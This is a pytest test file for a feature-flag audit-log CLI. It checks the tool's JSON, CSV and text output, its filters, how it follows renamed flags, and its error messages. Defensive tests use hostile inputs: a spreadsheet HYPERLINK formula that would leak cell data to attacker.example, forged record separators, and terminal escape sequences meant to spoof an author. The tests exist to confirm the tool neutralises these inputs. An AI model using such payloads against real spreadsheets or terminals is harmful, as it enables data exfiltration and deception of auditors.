"""``flagstone log``: the audit history on a real git repository with several authors,
pull-request merges, a rename, a revert and an unmerged branch."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from gitrepo import HISTORY, build_history, run_cli


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    path = tmp_path_factory.mktemp("log") / "flags-repo"
    return path, build_history(path)


def log_json(root: Path, *args: str) -> list[dict[str, object]]:
    code, out, err = run_cli(["log", "--format", "json", *args], root)
    assert code == 0, err
    document = json.loads(out)
    assert document["format"] == "flagstone.log/1"
    entries: list[dict[str, object]] = document["entries"]
    return entries


def after_initial(
    entries: list[dict[str, object]], shas: dict[str, str]
) -> list[dict[str, object]]:
    return [e for e in entries if e["commit"] != shas["initial"]]


def test_every_semantic_change_on_main_with_who_when_and_pr(
    history: tuple[Path, dict[str, str]],
) -> None:
    root, shas = history
    entries = after_initial(log_json(root), shas)
    assert [
        (e["commit"], e["kind"], e["environment"], e["flag"] or e["segment"]) for e in entries
    ] == [
        (shas["advance"], "stage-advanced", "production", "new-checkout"),
        (shas["rename"], "flag-renamed", None, "search-order"),
        (shas["bm25"], "default-changed", "production", "search-order"),
        (shas["revert"], "default-changed", "production", "search-order"),
        (shas["tester"], "segment-membership", None, "beta-testers"),
    ]
    advance = entries[0]
    assert advance == {
        "commit": shas["advance"],
        "date": "2026-11-02T10:00:00+00:00",
        "author_name": "Alice Example",
        "author_email": "alice@example.com",
        "pull_request": 12,
        "environment": "production",
        "flag": "new-checkout",
        "segment": None,
        "kind": "stage-advanced",
        "summary": "stage advanced beta (1% + staff, beta-testers) → ten (10% + staff, beta-testers): about +9% of contexts",
        # Bob wrote the pull request; Alice (above) merged it.
        "authors": ["Bob Example <bob@example.com>"],
    }
    for entry in entries:
        name = next(n for n, sha in shas.items() if sha == entry["commit"])
        date, author, pull_request = HISTORY[name]
        assert entry["author_email"] == author.email
        if name != "advance":  # squash merges and direct commits: their own author
            assert entry["authors"] == [f"{author.name} <{author.email}>"]
        assert entry["pull_request"] == pull_request
        assert entry["date"] == date.replace("Z", "+00:00")


def test_the_initial_commit_adds_every_flag_and_release(
    history: tuple[Path, dict[str, str]],
) -> None:
    root, shas = history
    initial = [e for e in log_json(root) if e["commit"] == shas["initial"]]
    added = sorted(e["flag"] for e in initial if e["kind"] == "flag-added")
    assert "new-checkout" in added and "search-ranking" in added
    assert {e["kind"] for e in initial} == {
        "project-changed",
        "flag-added",
        "release-added",
        "segment-added",
    }


def test_unmerged_branches_and_non_flag_commits_are_not_in_the_log(
    history: tuple[Path, dict[str, str]],
) -> None:
    root, shas = history
    entries = log_json(root)
    assert all(e["commit"] != shas["readme"] for e in entries)
    assert not any(e["flag"] == "payments-v2" and e["kind"] == "disabled" for e in entries)


def test_a_flag_history_follows_its_rename(history: tuple[Path, dict[str, str]]) -> None:
    root, _ = history
    entries = log_json(root, "search-order")
    assert [(e["flag"], e["kind"]) for e in entries] == [
        ("search-ranking", "flag-added"),
        ("search-ranking", "release-added"),
        ("search-ranking", "release-added"),
        ("search-order", "flag-renamed"),
        ("search-order", "default-changed"),
        ("search-order", "default-changed"),
    ]
    # The old name names the same lineage, so it finds the same history.
    assert [e["kind"] for e in log_json(root, "search-ranking")] == [e["kind"] for e in entries]


def test_env_since_and_until_filter(history: tuple[Path, dict[str, str]]) -> None:
    root, shas = history
    window = log_json(root, "--since", "2026-11-03", "--until", "2026-11-04")
    assert {e["commit"] for e in window} == {shas["rename"], shas["bm25"]}
    production = after_initial(log_json(root, "--env", "production"), shas)
    assert {e["environment"] for e in production} == {"production", None}
    staging = after_initial(log_json(root, "--env", "staging"), shas)
    assert all(e["environment"] is None for e in staging)
    precise = log_json(root, "--since", "2026-11-05T10:00:00Z", "--until", "2026-11-05T10:00:00Z")
    assert {e["commit"] for e in precise} == {shas["revert"]}


def test_csv_has_a_header_and_rfc4180_quoting(history: tuple[Path, dict[str, str]]) -> None:
    root, shas = history
    code, out, err = run_cli(
        ["log", "--format", "csv", "--env", "production", "--since", "2026-11-02"], root
    )
    assert code == 0, err
    assert out.startswith(
        "commit,date,author_name,author_email,pull_request,environment,flag,segment,kind,summary,"
        "authors\r\n"
    )
    assert out.endswith("\r\n") and "\r\n\r\n" not in out
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["commit"] for r in rows] == [
        shas["advance"],
        shas["rename"],
        shas["bm25"],
        shas["revert"],
        shas["tester"],
    ]
    assert rows[0]["pull_request"] == "12" and rows[3]["pull_request"] == ""
    assert rows[0]["authors"] == "Bob Example <bob@example.com>"
    assert rows[0]["author_name"] == "Alice Example"  # the merger
    assert rows[0]["summary"].startswith("stage advanced beta (1% + staff, beta-testers)")
    # A summary with commas is quoted, so the row still has exactly ten fields.
    assert '"stage advanced beta (1% + staff, beta-testers)' in out


def test_text_lines(history: tuple[Path, dict[str, str]]) -> None:
    root, shas = history
    code, out, _ = run_cli(["log", "new-checkout", "--since", "2026-11-02"], root)
    assert code == 0
    assert out.splitlines() == [
        f"2026-11-02T10:00:00+00:00 {shas['advance'][:12]} Alice Example <alice@example.com> #12 "
        "(by Bob Example <bob@example.com>)  "
        "production: new-checkout: stage advanced beta (1% + staff, beta-testers) → ten (10% + staff, beta-testers): "
        "about +9% of contexts"
    ]


def test_log_works_from_a_subdirectory_and_with_repo(
    history: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    root, _ = history
    inside = run_cli(["log", "--format", "csv"], root / "flags" / "new-checkout")
    outside = run_cli(["log", "--format", "csv", "--repo", str(root)], tmp_path)
    assert inside[0] == outside[0] == 0
    assert inside[1] == outside[1]


def test_bad_input_is_one_line_with_exit_code(history: tuple[Path, dict[str, str]]) -> None:
    root, _ = history
    code, out, err = run_cli(["log", "no-such-flag"], root)
    assert (code, out) == (2, "")
    assert err.splitlines()[0] == "error: flag 'no-such-flag' never existed on this branch"
    code, _, err = run_cli(["log", "--since", "last tuesday"], root)
    assert code == 2 and "is not a time; use 2026-11-10" in err
    code, out, err = run_cli(["log", "--env", "prod"], root)
    assert (code, out) == (2, "")
    assert (
        err.splitlines()[0]
        == "error: unknown environment 'prod' (environments: production, staging)"
    )
    code, _, err = run_cli(["log", "--ref", "nope"], root)
    assert code == 1 and err.startswith("error: unknown revision 'nope'")


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() -> None:
    from flagstone.auditlog import LogEntry, render_log_csv

    entry = LogEntry(
        commit="a" * 40,
        date="2026-11-02T10:00:00+00:00",
        timestamp=0,
        author_name='=HYPERLINK("http://attacker.example/?"&A1,"x")',
        author_email="+1@example.com",
        pull_request=7,
        subject="flag",
        key="checkout",
        environment="production",
        kind="description-changed",
        summary="@SUM(1+1)",
        lineage="checkout",
    )
    second = LogEntry(
        **{
            **{f: getattr(entry, f) for f in entry.__slots__},
            "author_name": "-2+3",
            "author_email": "\tx@example.com",
            "summary": "plain, with a comma",
        }
    )
    rows = list(csv.DictReader(io.StringIO(render_log_csv([entry, second]), newline="")))
    assert rows[0]["author_name"] == "'" + entry.author_name
    assert rows[0]["author_email"] == "'+1@example.com"
    assert rows[0]["summary"] == "'@SUM(1+1)"
    assert rows[0]["pull_request"] == "7" and rows[0]["flag"] == "checkout"
    assert rows[1]["author_name"] == "'-2+3"
    assert rows[1]["author_email"] == "'\tx@example.com"
    assert rows[1]["summary"] == "plain, with a comma"


def test_control_characters_in_a_commit_subject_or_author_cannot_break_the_log(
    tmp_path: Path,
) -> None:
    # The log is parsed from one `git log -z` stream; a subject carrying the record
    # separator (any text a committer chooses) must not split, forge or crash it.
    from gitrepo import ALICE, Author, GitRepo

    repo = GitRepo(tmp_path / "repo")
    repo.copy_example()
    repo.commit("Initial flags", author=ALICE, date="2026-11-01T09:00:00Z")
    repo.replace("flags/new-checkout/production.yaml", "current: beta", "current: ten")
    forged = "\x1e" + "f" * 40
    mallory = Author("Mallory \x1e" + "e" * 40, "mallory@example.com")
    sha = repo.commit(
        f"Advance {forged} A flags/x/flag.yaml (#9)", author=mallory, date="2026-11-02T09:00:00Z"
    )
    entries = log_json(repo.path, "--since", "2026-11-02")
    assert [(e["commit"], e["kind"], e["flag"], e["pull_request"]) for e in entries] == [
        (sha, "stage-advanced", "new-checkout", 9)
    ]
    assert entries[0]["author_name"] == mallory.name


def test_text_output_escapes_terminal_control_characters(tmp_path: Path) -> None:
    # An author name carrying escape sequences must not rewrite what an auditor's
    # terminal shows (e.g. erase its own line).
    from gitrepo import ALICE, Author, GitRepo

    repo = GitRepo(tmp_path / "repo")
    repo.copy_example()
    repo.commit("Initial flags", author=ALICE, date="2026-11-01T09:00:00Z")
    repo.replace("flags/new-checkout/production.yaml", "current: beta", "current: ten")
    sneaky = Author("Mallory\x1b[2K\rAlice Example", "mallory@example.com")
    repo.commit("Advance (#9)", author=sneaky, date="2026-11-02T09:00:00Z")
    code, out, err = run_cli(["log", "--since", "2026-11-02"], repo.path)
    assert code == 0, err
    assert "\x1b" not in out and "\r" not in out
    assert "Mallory\\x1b[2K\\x0dAlice Example <mallory@example.com> #9" in out
    assert log_json(repo.path, "--since", "2026-11-02")[0]["author_name"] == sneaky.name


def test_a_merged_pull_request_with_several_authors_names_them_all(tmp_path: Path) -> None:
    from gitrepo import ALICE, BOB, CAROL, GitRepo

    repo = GitRepo(tmp_path / "repo")
    repo.copy_example()
    repo.commit("Initial flags", author=ALICE, date="2026-11-01T09:00:00Z")
    repo.branch("pricing")
    repo.replace("flags/new-checkout/production.yaml", "current: beta", "current: ten")
    repo.commit("Advance", author=BOB, date="2026-11-02T09:00:00Z")
    repo.replace("segments/beta-testers.yaml", "include: [", "include: [tester-7, ")
    repo.commit("Add a tester", author=CAROL, date="2026-11-02T09:30:00Z")
    repo.commit("Fix up", author=BOB, date="2026-11-02T09:40:00Z")
    repo.checkout("main")
    merge = repo.merge("pricing", "Merge pull request #20 from acme/pricing", author=ALICE,
                       date="2026-11-03T09:00:00Z")  # fmt: skip
    entries = [e for e in log_json(repo.path) if e["commit"] == merge]
    assert len(entries) == 2
    for entry in entries:
        assert entry["author_name"] == "Alice Example" and entry["pull_request"] == 20
        assert entry["authors"] == [
            "Bob Example <bob@example.com>",
            "Carol Example <carol@example.com>",
        ]
    code, out, _ = run_cli(["log", "--format", "text", "--since", "2026-11-03"], repo.path)
    assert code == 0
    assert all(
        "Alice Example <alice@example.com> #20 (by Bob Example <bob@example.com>, "
        "Carol Example <carol@example.com>)  " in line
        for line in out.splitlines()
    ), out
    code, out, _ = run_cli(["log", "--format", "csv", "--since", "2026-11-03"], repo.path)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert {r["authors"] for r in rows} == {
        "Bob Example <bob@example.com>; Carol Example <carol@example.com>"
    }
